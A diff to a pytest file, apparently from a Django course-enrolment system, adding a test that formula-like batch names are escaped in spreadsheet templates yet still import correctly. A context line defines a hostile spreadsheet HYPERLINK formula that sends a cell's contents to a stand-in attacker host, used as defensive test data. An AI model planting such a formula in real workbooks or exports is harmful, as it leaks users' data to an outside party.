@@ -7,10 +7,12 @@ import openpyxl
 import pytest
 from django.core.management import call_command
 
-from certification.models import Module, Track
+from certification.models import Enrolment, Module, Track
+from exchange import blanks, services
 from exchange.columns import KINDS
 
-from .conftest import named_batch
+from ..data import make_corpus as corpus
+from .conftest import named_batch, workbook_bytes
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 # A drop-down list is fed from a range of the hidden list sheet, never from a formula of its own.
@@ -43,3 +45,18 @@ def test_no_cell_of_a_template_is_a_formula_whatever_the_names(tmp_path, kind, i
     sheet = workbook[KINDS[kind].sheet]
     sources = [validation.formula1 for validation in sheet.data_validations.dataValidation]
     assert sources and all(LIST_RANGE.match(source) for source in sources), sources
+
+
+def test_a_batch_named_like_a_formula_picked_from_the_template_list_still_imports(tmp_path, inst1_staff):
+    batch = named_batch(inst1_staff.institution, "=2025春季制版班", "PM")
+    out = tmp_path / "enrolments.xlsx"
+    blanks.write_template(KINDS["enrolments"], out, institution=inst1_staff.institution)
+    workbook = openpyxl.load_workbook(out)
+    listed = next(
+        cell.value for row in workbook["选项"].iter_rows() for cell in row if "2025春季制版班" in str(cell.value)
+    )
+    assert listed == "'=2025春季制版班"  # as the drop-down offers it
+    rows = [corpus.person(corpus.NEW_IDS[0], batch=listed)]
+    summary = services.import_rows(staff=inst1_staff, kind="enrolments", fileobj=workbook_bytes("enrolments", rows))
+    assert summary.written and summary.counts["create"] == 1
+    assert Enrolment.objects.get().batch == batch
